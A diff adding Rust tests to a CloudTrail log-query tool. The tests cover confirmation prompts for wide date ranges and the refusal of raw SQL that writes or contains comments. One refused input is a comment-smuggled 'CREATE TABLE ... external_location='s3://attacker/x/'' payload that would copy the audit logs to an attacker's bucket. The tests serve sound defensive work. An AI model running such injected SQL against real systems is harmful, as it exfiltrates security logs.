@@ -491,13 +491,128 @@ fn raw_sql_without_a_partition_predicate_asks_first() {
     };
     assert_eq!(q.sql, sql, "raw SQL runs as written");
     assert_eq!(q.search, Search::Raw);
-    // With the partition constrained it runs at once.
-    let pruned = format!("{sql} AND \"timestamp\" >= '2026/11/20'");
+    // With the partition bounded at both ends it runs at once.
+    let pruned = format!("{sql} AND \"timestamp\" BETWEEN '2026/11/20' AND '2026/11/25'");
     let cmds = run(&mut s, &format!("sql {pruned}"));
     assert!(
         cmds.iter().any(|c| matches!(c, Command::TrailStart(_))),
         "{cmds:?}"
     );
+}
+
+/// The confirmation on top, if one is open.
+fn confirmation(s: &State) -> Option<&crate::overlays::confirm::Confirm> {
+    match s.overlays.last() {
+        Some(Overlay::Confirm(c)) => Some(c),
+        _ => None,
+    }
+}
+
+#[test]
+fn a_search_wider_than_max_range_days_asks_first_and_sends_nothing_until_y() {
+    let mut s = state();
+    // A duration, an absolute time: each asks, and nothing is sent before `y`.
+    for filter in [
+        "since:32d",
+        "since:2000-01-01T00:00:00Z event:UpdateEndpoint",
+    ] {
+        let cmds = run(&mut s, &format!("trail {filter}"));
+        assert!(
+            cmds.is_empty(),
+            "{filter}: nothing before the confirmation: {cmds:?}"
+        );
+        let c = confirmation(&s).unwrap_or_else(|| panic!("{filter}: a confirmation"));
+        assert_eq!(c.title, "Search more than 31 days of the trail?");
+        assert!(
+            c.lines.join(" ").contains("more than max_range_days = 31"),
+            "{:?}",
+            c.lines
+        );
+        // Said in lines an 80-column terminal shows whole, then the filter.
+        assert!(
+            c.lines.iter().all(|l| l.chars().count() <= 72),
+            "{:?}",
+            c.lines
+        );
+        assert_eq!(
+            c.lines.last().map(String::as_str),
+            Some(filter),
+            "{:?}",
+            c.lines
+        );
+        // `n` lets it go: still nothing sent.
+        let cmds = update(&mut s, Action::Input(InputKey::Char('n'))).commands;
+        assert!(cmds.is_empty(), "{cmds:?}");
+        assert!(s.overlays.is_empty());
+        assert!(s.trail.query.is_none());
+    }
+    run(&mut s, "trail since:2000-01-01T00:00:00Z");
+    let cmds = update(&mut s, Action::Input(InputKey::Char('y'))).commands;
+    let Some(Command::TrailStart(q)) = cmds.iter().find(|c| matches!(c, Command::TrailStart(_)))
+    else {
+        panic!("{cmds:?}")
+    };
+    let Search::Filter { from, .. } = q.search else {
+        panic!("{:?}", q.search)
+    };
+    assert_eq!(from, 946_684_800, "the range as typed");
+    assert!(q.sql.contains("BETWEEN '2000/01/01'"), "{}", q.sql);
+    // Up to the bound, at once; the bound is the config's.
+    let cmds = run(&mut s, "trail since:31d");
+    assert!(
+        cmds.iter().any(|c| matches!(c, Command::TrailStart(_))),
+        "{cmds:?}"
+    );
+    s.trail.available = Some(Ok(TrailSettings {
+        max_range_days: 60,
+        ..TrailSettings::default()
+    }));
+    let cmds = run(&mut s, "trail since:40d");
+    assert!(
+        cmds.iter().any(|c| matches!(c, Command::TrailStart(_))),
+        "{cmds:?}"
+    );
+    assert!(confirmation(&s).is_none());
+}
+
+#[test]
+fn raw_sql_reading_more_days_than_max_range_days_asks_first() {
+    let mut s = state();
+    for sql in [
+        "SELECT eventname FROM cloudtrail_logs WHERE \"timestamp\" BETWEEN '2000/01/01' AND '2026/11/29'",
+        // Days that cannot be read from the bounds.
+        "SELECT eventname FROM cloudtrail_logs WHERE \"timestamp\" >= '0000' AND \"timestamp\" <= '2026/11/29'",
+    ] {
+        let cmds = run(&mut s, &format!("sql {sql}"));
+        assert!(cmds.is_empty(), "nothing before the confirmation: {cmds:?}");
+        let c = confirmation(&s).unwrap_or_else(|| panic!("{sql}: a confirmation"));
+        assert!(
+            c.lines.join(" ").contains("max_range_days = 31"),
+            "{:?}",
+            c.lines
+        );
+        let cmds = update(&mut s, Action::Input(InputKey::Char('y'))).commands;
+        let Some(Command::TrailStart(q)) =
+            cmds.iter().find(|c| matches!(c, Command::TrailStart(_)))
+        else {
+            panic!("{cmds:?}")
+        };
+        assert_eq!(q.sql, sql);
+    }
+}
+
+#[test]
+fn raw_sql_with_a_write_or_a_comment_is_refused_and_sends_nothing() {
+    let mut s = state();
+    for sql in [
+        "/* /* */ CREATE TABLE evil WITH (external_location='s3://attacker/x/') AS SELECT * FROM cloudtrail_logs -- */ SELECT eventname FROM cloudtrail_logs WHERE \"timestamp\" = '2026/11/29'",
+        "WITH a AS (SELECT 1) INSERT INTO x SELECT * FROM a",
+    ] {
+        let cmds = run(&mut s, &format!("sql {sql}"));
+        assert!(cmds.is_empty(), "{cmds:?}");
+        assert!(confirmation(&s).is_none(), "refused, not asked");
+        assert!(s.trail.error.is_some());
+    }
 }
 
 fn with_rows(s: &mut State) {
